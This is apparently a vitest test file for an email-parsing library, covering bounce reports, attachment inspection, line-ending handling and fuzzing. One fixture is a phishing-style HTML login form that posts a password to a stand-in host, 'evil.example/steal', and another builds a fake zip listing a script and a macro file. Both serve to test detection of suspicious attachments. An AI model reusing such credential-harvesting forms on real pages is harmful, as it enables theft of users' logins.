import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { DEFECTS, factsOf } from '../src/index.ts'
import { mail, textMail } from './support.ts'

describe('bounces', () => {
  const bounce = factsOf(
    mail(
      'From: MAILER-DAEMON@mx.example',
      'To: anna@a.example',
      'Subject: Undelivered',
      'Date: Mon, 02 Nov 2026 10:00:00 +0100',
      'Message-ID: <2@mx.example>',
      'Content-Type: multipart/report; report-type=delivery-status; boundary=r',
      '',
      '--r',
      '',
      'Your mail could not be delivered.',
      '--r',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mx.example',
      '',
      'Final-Recipient: rfc822; gone@b.example',
      'Status: 5.1.1',
      '--r',
      'Content-Type: message/rfc822',
      '',
      'From: anna@a.example',
      'Subject: original',
      'Content-Type: multipart/alternative; boundary=i',
      '',
      '--i',
      'Content-Type: text/plain',
      '',
      'the original words',
      '--i--',
      '--r--',
      '',
    ),
  )

  it('keep the outer header apart from the attached one', () => {
    expect(bounce.subject).toBe('Undelivered')
    expect(bounce.from?.address).toBe('MAILER-DAEMON@mx.example')
    expect(bounce.defects).toEqual([])
  })

  it('read all three parts', () => {
    expect(bounce.text).toContain('could not be delivered')
    expect(bounce.text).toContain('5.1.1')
    expect(bounce.text).toContain('the original words')
    expect(bounce.parts.map(({ type }) => type)).toEqual([
      'multipart/report',
      'text/plain',
      'message/delivery-status',
      'message/rfc822',
      'multipart/alternative',
      'text/plain',
    ])
  })
})

describe('attachments', () => {
  it('show the names inside an archive', () => {
    const central = (name: string, flags: number): Buffer => {
      const header = Buffer.alloc(46)
      header.write('PK\x01\x02', 'latin1')
      header.writeUInt16LE(flags, 8)
      header.writeUInt16LE(name.length, 28)
      return Buffer.concat([header, Buffer.from(name)])
    }
    const zip = Buffer.concat([
      Buffer.from('PK\x03\x04', 'latin1'),
      central('invoice.js', 1),
      central('word/vbaProject.bin', 0),
    ])
    const facts = factsOf(
      textMail('application/zip; name="a.zip"', zip.toString('base64'), 'Content-Transfer-Encoding: base64'),
    )
    expect(facts.attachments[0]).toMatchObject({
      name: 'a.zip',
      realType: 'application/zip',
      inside: ['invoice.js', 'word/vbaProject.bin'],
      sizeOctets: zip.length,
    })
    expect(facts.attachments[0]?.oddities).toEqual(expect.arrayContaining(['encrypted', 'macros']))
  })

  it('that are pages give their links and words', () => {
    const facts = factsOf(
      mail(
        'From: a@a.example',
        'Content-Type: multipart/mixed; boundary=b',
        '',
        '--b',
        '',
        'see attached',
        '--b',
        'Content-Type: text/html; name=login.html',
        'Content-Disposition: attachment; filename=login.html',
        '',
        '<form action="https://evil.example/steal"><input name=password>Sign in</form>',
        '--b--',
      ),
    )
    expect(facts.text).toBe('see attached')
    expect(facts.attachedText).toBe('Sign in')
    expect(facts.urls).toMatchObject([{ host: 'evil.example', place: 'form' }])
    expect(facts.attachments[0]?.oddities).toContain('form')
  })

  it('count their octets without decoding them all', () => {
    const content = gzipSync(Buffer.alloc(1000)).toString('base64')
    const big = Buffer.alloc(300_000, 'QUFB')
    expect(
      factsOf(textMail('application/gzip', content, 'Content-Transfer-Encoding: base64')).attachments[0]
        ?.sizeOctets,
    ).toBe(Buffer.from(content, 'base64').length)
    expect(
      factsOf(textMail('application/x', big, 'Content-Transfer-Encoding: base64')).attachments[0]?.sizeOctets,
    ).toBe(225_000)
  })
})

describe('the same message', () => {
  it('has the same facts with LF and CRLF line ends', () => {
    const lines = [
      'From: A <a@a.example>',
      'Subject: folded',
      '  subject',
      'Content-Type: multipart/alternative; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain',
      'Content-Transfer-Encoding: quoted-printable',
      '',
      'soft =',
      'break and =E9  ',
      'next',
      '--b',
      'Content-Type: text/html',
      '',
      '<p>shown</p>',
      '--b--',
    ]
    const { sizeOctets: a, ...crlf } = factsOf(Buffer.from(lines.join('\r\n')))
    const { sizeOctets: b, ...lf } = factsOf(Buffer.from(lines.join('\n')))
    expect(lf).toEqual(crlf)
    expect(a - b).toBe(lines.length - 1)
  })
})

const KNOWN = new Set<string>(DEFECTS)

describe('anything', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      'From: a@b.example\r\n',
      'Content-Type: multipart/mixed; boundary=b\r\n',
      'Content-Type: text/html\r\n',
      'Content-Type: message/rfc822\r\n',
      'Content-Transfer-Encoding: base64\r\n',
      'Content-Transfer-Encoding: quoted-printable\r\n',
      '\r\n',
      '\n',
      '--b\r\n',
      '--b--\r\n',
      '<p style="display:none">',
      '<a href="http://x.example">',
      '</p>',
      '=?utf-8?q?=41?=',
      '=\r\n',
      'YWJj',
      '<!--',
      '-->',
      '"',
      '\0',
      '\xff\xfe',
    ),
    fc.string({ maxLength: 30 }),
  )

  it('gives facts and known defects, whatever it is', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const octets = Buffer.from(pieces.join(''), 'latin1')
        const facts = factsOf(octets)
        expect(facts.sizeOctets).toBe(octets.length)
        expect(facts.defects.filter((defect) => !KNOWN.has(defect))).toEqual([])
        expect(facts.defects).not.toContain('failed')
        expect(structuredClone(facts)).toEqual(facts)
      }),
      { numRuns: 400 },
    )
  })

  it('is read within its limits', () => {
    const facts = factsOf(textMail('text/plain', 'word '.repeat(1000)), { textCharacters: 100, fields: 2 })
    expect(facts.text.length).toBeLessThanOrEqual(100)
    expect(facts.fields.length).toBe(2)
    expect(facts.defects).toEqual(expect.arrayContaining(['long-header']))
  })
})
